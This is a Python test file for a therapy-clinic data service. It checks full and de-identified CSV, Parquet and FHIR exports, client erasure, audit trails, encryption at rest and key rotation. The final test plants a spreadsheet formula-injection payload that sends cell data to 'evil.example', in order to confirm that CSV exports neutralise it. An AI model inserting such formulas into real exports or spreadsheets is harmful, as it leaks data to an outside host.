"""Exports (clinic CSV/Parquet/FHIR, full and de-identified; a client's data), erasure, the
audit trail of clinical reads and writes, encryption at rest and key rotation."""

from __future__ import annotations

import io
import json
from datetime import timedelta

import pandas as pd
import pytest
from clinic_world import Clock, World, full_answers, make_settings
from sqlalchemy import select, text

from alliance.services import admin, checkins, clients, exports, goals, sessions, timelines
from alliance.services.context import ServiceContext
from alliance.services.errors import NotFound
from alliance.store.db import transaction
from alliance.store.models import AuditEvent, Client, Goal, Response

COMMENT = "My manager shouted at me again"
GOAL = "Ask for a quieter desk"


def _seed(world: World, clock: Clock) -> None:
    goals.agree_goals(world.ctx, actor=world.alice, episode_id=world.sarah_episode, goals=[GOAL])
    for level in (3, 4):
        clock.advance(days=7)
        sessions.schedule_session(
            world.ctx,
            actor=world.alice,
            episode_id=world.sarah_episode,
            scheduled_at=clock.now,
            status="attended",
        )
        link = checkins.create_checkin_link(
            world.ctx, actor=world.alice, episode_id=world.sarah_episode
        )
        checkins.record_check_in(
            world.ctx, link.token, full_answers(alliance=level, comment=COMMENT)
        )


def _raw_dump(world: World) -> str:
    parts: list[str] = []
    with transaction(world.ctx.session_factory) as session:
        for table in ("clients", "goals", "responses", "alerts", "staff_users"):
            for row in session.execute(text(f"SELECT * FROM {table}")):  # noqa: S608
                parts.append(" ".join(map(str, row)))
    return "\n".join(parts)


def test_encrypted_columns_are_not_plaintext_in_the_raw_database(
    world: World, clock: Clock
) -> None:
    _seed(world, clock)
    dump = _raw_dump(world)
    for secret in (COMMENT, GOAL, "sarah@mail.example"):
        assert secret not in dump
    assert "Sarah" in dump  # the pseudonymous display name is not encrypted, by design


def test_a_full_csv_export_has_every_table_and_the_free_text(world: World, clock: Clock) -> None:
    _seed(world, clock)
    files = exports.export_clinic(world.ctx, actor=world.ada, format="csv", deidentified=False)
    assert set(files) == {f"{t}.csv" for t in exports.TABLES} | {"codebook.md", "datapackage.json"}
    scores = pd.read_csv(io.BytesIO(files["scores.csv"]))
    assert sorted(scores["instrument_id"].unique()) == [
        "gad7",
        "phq9",
        "session_feedback",
        "wai_sr",
    ]
    assert "subscale_bond" in scores.columns
    answers = pd.read_csv(io.BytesIO(files["answers.csv"]))
    assert COMMENT in set(answers["answer"])
    assert GOAL in set(pd.read_csv(io.BytesIO(files["goals.csv"]))["text"])
    names = set(pd.read_csv(io.BytesIO(files["clients.csv"]))["display_name"])
    assert names == {"Sarah", "John"}  # Eve belongs to the other clinic


def test_a_deidentified_export_has_no_names_free_text_or_dates(world: World, clock: Clock) -> None:
    _seed(world, clock)
    files = exports.export_clinic(world.ctx, actor=world.ada, format="parquet", deidentified=True)
    blob = b"".join(files.values())
    for secret in (b"Sarah", COMMENT.encode(), GOAL.encode(), b"sarah@mail.example"):
        assert secret not in blob
    clients_frame = pd.read_parquet(io.BytesIO(files["clients.parquet"]))
    assert list(clients_frame.columns) == ["client_id"]
    assert str(world.sarah) not in set(clients_frame["client_id"])
    scores = pd.read_parquet(io.BytesIO(files["scores.parquet"]))
    assert sorted(scores["at"].unique()) == [7.0, 14.0]  # days since the episode began


def test_a_fhir_export_is_a_bundle_of_responses_and_observations(
    world: World, clock: Clock
) -> None:
    _seed(world, clock)
    files = exports.export_clinic(world.ctx, actor=world.ada, format="fhir", deidentified=True)
    bundle = json.loads(files["bundle.fhir.json"])
    kinds = [e["resource"]["resourceType"] for e in bundle["entry"]]
    assert kinds.count("QuestionnaireResponse") == 8
    codes = {
        c["code"]
        for e in bundle["entry"]
        if e["resource"]["resourceType"] == "Observation"
        for c in e["resource"]["code"]["coding"]
    }
    assert {"44261-6", "70274-6"} <= codes
    assert COMMENT not in files["bundle.fhir.json"].decode()


def test_exports_are_audited(world: World, clock: Clock) -> None:
    _seed(world, clock)
    exports.export_clinic(world.ctx, actor=world.ada, format="csv", deidentified=True)
    exports.export_client(world.ctx, actor=world.ada, client_id=world.sarah)
    events = admin.list_audit_events(world.ctx, actor=world.ada, action="export")
    assert [(e.entity_type, e.detail.get("deidentified")) for e in events] == [
        ("client", None),
        ("clinic", True),
    ]


def test_a_client_export_holds_their_data_and_a_fhir_bundle(world: World, clock: Clock) -> None:
    _seed(world, clock)
    document = exports.export_client(world.ctx, actor=world.ada, client_id=world.sarah)
    assert document["clients"][0]["contact_email"] == "sarah@mail.example"
    assert document["goals"][0]["text"] == GOAL
    assert len(document["scores"]) == 8
    assert document["fhir"]["resourceType"] == "Bundle"
    json.dumps(document)


def test_erasing_a_client_deletes_their_data_and_keeps_a_contentless_audit_record(
    world: World, clock: Clock
) -> None:
    _seed(world, clock)
    receipt = exports.erase_client(world.ctx, actor=world.ada, client_id=world.sarah)
    assert receipt.deleted["responses"] == 8
    with transaction(world.ctx.session_factory) as session:
        assert session.get(Client, world.sarah) is None
        assert session.scalars(select(Response)).all() == []
        assert session.scalars(select(Goal)).all() == []
        events = session.scalars(select(AuditEvent)).all()
        [erase] = [e for e in events if e.action == "erase"]
        assert erase.entity_id == str(world.sarah)
        trail = json.dumps([e.detail for e in events])
    for secret in (COMMENT, GOAL, "Sarah", "sarah@mail.example"):
        assert secret not in trail
    with pytest.raises(NotFound):
        timelines.client_timeline(world.ctx, actor=world.alice, client_id=world.sarah)


def test_only_an_admin_may_erase(world: World) -> None:
    from alliance.services.errors import Forbidden

    with pytest.raises(Forbidden):
        exports.erase_client(world.ctx, actor=world.alice, client_id=world.sarah)
    assert clients.get_client(world.ctx, actor=world.alice, client_id=world.sarah)


def test_every_clinical_read_and_write_leaves_an_audit_event(world: World, clock: Clock) -> None:
    def count() -> int:
        with transaction(world.ctx.session_factory) as session:
            return len(session.scalars(select(AuditEvent.id)).all())

    calls = [
        lambda: clients.get_client(world.ctx, actor=world.alice, client_id=world.sarah),
        lambda: timelines.client_timeline(world.ctx, actor=world.alice, client_id=world.sarah),
        lambda: timelines.caseload(world.ctx, actor=world.alice),
        lambda: goals.agree_goals(
            world.ctx, actor=world.alice, episode_id=world.sarah_episode, goals=["g"]
        ),
        lambda: goals.list_goals(world.ctx, actor=world.alice, episode_id=world.sarah_episode),
        lambda: sessions.schedule_session(
            world.ctx,
            actor=world.alice,
            episode_id=world.sarah_episode,
            scheduled_at=clock.now + timedelta(days=1),
        ),
        lambda: sessions.list_sessions(
            world.ctx, actor=world.alice, episode_id=world.sarah_episode
        ),
        lambda: checkins.list_checkins(
            world.ctx, actor=world.alice, episode_id=world.sarah_episode
        ),
        lambda: clients.update_client_contact(
            world.ctx, actor=world.alice, client_id=world.sarah, contact_email=None
        ),
    ]
    for call in calls:
        before = count()
        call()
        assert count() > before, call
    with transaction(world.ctx.session_factory) as session:
        reads = session.scalars(select(AuditEvent).where(AuditEvent.action == "read")).all()
    assert all(e.actor_id == world.alice.user_id and e.at is not None for e in reads)


def test_after_key_rotation_old_rows_decrypt_and_new_rows_use_the_new_key(
    world: World, clock: Clock
) -> None:
    import base64

    goals.agree_goals(
        world.ctx, actor=world.alice, episode_id=world.sarah_episode, goals=["old goal"]
    )
    settings = world.ctx.settings
    new_key = "k2:" + base64.urlsafe_b64encode(b"2" * 32).decode()
    rotated = ServiceContext.create(
        make_settings(
            settings.effective_database_url, encryption_keys=f"{new_key},{settings.encryption_keys}"
        ),
        engine=world.ctx.session_factory.kw["bind"],
        clock=clock,
    )
    assert [
        g.text for g in goals.list_goals(rotated, actor=world.alice, episode_id=world.sarah_episode)
    ] == ["old goal"]
    goals.agree_goals(
        rotated, actor=world.alice, episode_id=world.sarah_episode, goals=["new goal"]
    )
    with transaction(rotated.session_factory) as session:
        stored = {
            rotated.cipher.decrypt(g.text_enc, field="goals.text"): rotated.cipher.key_id_of(
                g.text_enc
            )
            for g in session.scalars(select(Goal))
        }
    assert stored == {"old goal": "k0", "new goal": "k2"}


def test_rotate_encryption_rewrites_old_values_so_the_old_key_can_go(
    world: World, clock: Clock
) -> None:
    import base64

    from alliance.services.keys import rotate_encryption

    _seed(world, clock)
    settings = world.ctx.settings
    new_key = "k9:" + base64.urlsafe_b64encode(b"9" * 32).decode()
    engine = world.ctx.session_factory.kw["bind"]
    both = ServiceContext.create(
        make_settings(
            settings.effective_database_url, encryption_keys=f"{new_key},{settings.encryption_keys}"
        ),
        engine=engine,
        clock=clock,
    )
    counts = rotate_encryption(both)
    assert counts["goals.text_enc"] == 1
    assert counts["clients.contact_email_enc"] == 1
    assert counts["responses.answers"] == 2
    assert rotate_encryption(both)["goals.text_enc"] == 0  # nothing left on the old key
    only_new = ServiceContext.create(
        make_settings(settings.effective_database_url, encryption_keys=new_key),
        engine=engine,
        clock=clock,
    )
    view = timelines.client_timeline(only_new, actor=world.alice, client_id=world.sarah)
    assert [g.goal.text for g in view.goals] == [GOAL]
    assert [t for _, t in view.feedback] == [COMMENT, COMMENT]


def test_a_client_export_lists_who_read_or_changed_their_record(world: World) -> None:
    timelines.client_timeline(world.ctx, actor=world.alice, client_id=world.sarah)
    document = exports.export_client(world.ctx, actor=world.ada, client_id=world.sarah)
    log = [(e["actor_id"], e["action"], e["what"]) for e in document["access_log"]]
    assert log[0] == (world.alice.user_id, "write", "create")
    assert (world.alice.user_id, "read", "timeline") in log


def test_a_csv_export_neutralises_text_that_a_spreadsheet_would_run(
    world: World, clock: Clock
) -> None:
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
    goals.agree_goals(
        world.ctx, actor=world.alice, episode_id=world.sarah_episode, goals=[payload, "-quit"]
    )
    files = exports.export_clinic(world.ctx, actor=world.ada, format="csv", deidentified=False)
    texts = set(pd.read_csv(io.BytesIO(files["goals.csv"]))["text"])
    assert {"'" + payload, "'-quit"} <= texts
    assert payload not in texts
    # The same goals in Parquet are data for programs, not spreadsheets: unchanged.
    parquet = exports.export_clinic(
        world.ctx, actor=world.ada, format="parquet", deidentified=False
    )
    assert payload in set(pd.read_parquet(io.BytesIO(parquet["goals.parquet"]))["text"])
